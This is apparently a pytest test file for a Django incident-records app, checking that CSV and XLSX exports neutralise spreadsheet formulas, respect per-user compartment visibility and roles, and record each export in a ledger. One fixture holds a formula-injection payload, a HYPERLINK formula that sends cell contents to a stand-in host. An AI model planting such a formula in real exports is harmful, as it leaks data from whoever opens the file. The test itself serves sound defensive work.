"""Exporting the incident list: only what the user sees, formulas inert in CSV and XLSX, ledgered."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from khronika.accounts.roles import Role
from khronika.ledger.models import LedgerEntry
from khronika.testing.factories import IncidentFactory, UserFactory

URL = reverse("records:incident_export")
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")'


@pytest.fixture
def coordinator(team):
    return UserFactory(username="coord", role=Role.COORDINATOR, compartments=[team.home])


def rows_of(response, kind):
    if kind == "csv":
        text = response.content.decode("utf-8-sig")
        import csv

        return list(csv.reader(io.StringIO(text)))
    workbook = load_workbook(io.BytesIO(response.content))
    return [[cell.value or "" for cell in row] for row in workbook.active.iter_rows()]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_formula_in_a_title_comes_out_inert(client, team, coordinator, kind):
    IncidentFactory(compartment=team.home, title=FORMULA, narrative="@SUM(1+1)")
    client.force_login(coordinator)
    response = client.post(URL, {"format": kind})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    header, row = rows_of(response, kind)
    assert row[header.index("Title")] == "'" + FORMULA
    assert row[header.index("What happened")] == "'@SUM(1+1)"
    if kind == "xlsx":
        cells = list(load_workbook(io.BytesIO(response.content)).active.iter_rows())[1]
        assert all(cell.data_type != "f" for cell in cells)


def test_it_exports_only_the_incidents_the_user_can_see_and_ledgers_each(client, team, coordinator):
    mine = IncidentFactory(compartment=team.home)
    IncidentFactory(compartment=team.elsewhere, title="Hidden elsewhere")
    client.force_login(coordinator)
    response = client.post(URL, {"format": "csv"})
    text = response.content.decode("utf-8-sig")
    assert mine.reference in text and "Hidden elsewhere" not in text
    exported = list(LedgerEntry.objects.filter(action="export").values_list("object_id", flat=True))
    assert exported == [str(mine.id)]


def test_an_analyst_gets_coded_data_without_titles(client, team):
    IncidentFactory(compartment=team.home, title="A sensitive title")
    client.force_login(team.analyst)
    header, _row = rows_of(client.post(URL, {"format": "xlsx"}), "xlsx")
    assert "Title" not in header
    assert b"A sensitive title" not in client.post(URL, {"format": "csv"}).content


def test_a_documenter_without_the_export_capability_gets_404(client, team):
    client.force_login(team.documenter)
    assert client.post(URL, {"format": "csv"}).status_code == 404
    assert not LedgerEntry.objects.filter(action="export").exists()


def test_the_filters_of_the_list_apply(client, team, coordinator):
    IncidentFactory(compartment=team.home, status="verified", title="Verified one")
    IncidentFactory(compartment=team.home, status="reported", title="Reported one")
    client.force_login(coordinator)
    text = client.post(URL, {"format": "csv", "status": "verified"}).content.decode("utf-8-sig")
    assert "Verified one" in text and "Reported one" not in text
    page = client.get(URL, {"status": "verified"})
    assert page.status_code == 200 and page.context["count"] == 1
